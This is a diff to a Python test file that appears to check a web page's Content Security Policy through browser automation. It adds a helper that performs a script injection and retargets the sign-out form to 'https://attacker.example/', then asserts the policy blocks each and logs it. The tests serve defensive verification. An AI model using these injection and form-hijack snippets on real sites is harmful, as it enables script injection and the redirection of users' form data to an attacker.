@@ -25,22 +25,39 @@ def test_a_page_loads_all_that_it_needs_and_breaks_no_policy(ada: Any, path: str
     assert ada.page.evaluate("getComputedStyle(document.body).margin") == "0px"
 
 
-def test_a_foreign_script_on_our_page_does_not_run_and_is_noticed(ada: Any) -> None:
-    ada.page.evaluate(
-        "() => document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.ran = 1'}))"
+def stopped(window: Any, action: str) -> str:
+    """Does this in the page and waits until the policy has stopped it; what it went against."""
+    directive = window.page.evaluate(
+        """action => new Promise(done => {
+             document.addEventListener("securitypolicyviolation", event => done(event.effectiveDirective));
+             ACTIONS[action]();
+           })""".replace("ACTIONS", _ACTIONS),
+        action,
     )
+    return str(directive)
+
+
+_ACTIONS = """({
+  script: () => document.body.append(Object.assign(document.createElement("script"), {textContent: "window.ran = 1"})),
+  form: () => {
+    const form = document.querySelector("form[action='/sign-out']");
+    form.action = "https://attacker.example/";
+    form.submit();
+  },
+})"""
+
+
+def test_a_foreign_script_on_our_page_does_not_run_and_is_noticed(ada: Any) -> None:
+    assert stopped(ada, "script").startswith("script-src")
     assert ada.page.evaluate("window.ran") is None
     assert any("script-src" in complaint for complaint in ada.complaints)
     ada.complaints.clear()
 
 
 def test_a_form_that_leads_elsewhere_is_stopped_and_noticed(ada: Any) -> None:
-    with ada.page.expect_console_message(lambda message: "form-action" in message.text):
-        ada.page.evaluate(
-            """() => { const form = document.querySelector("form[action='/sign-out']");
-                       form.action = "https://attacker.example/"; form.submit(); }"""
-        )
+    assert stopped(ada, "form") == "form-action"
     assert ada.page.url == f"{ada.company.bridge}/"
+    assert any("form-action" in complaint for complaint in ada.complaints)
     ada.complaints.clear()
 
 
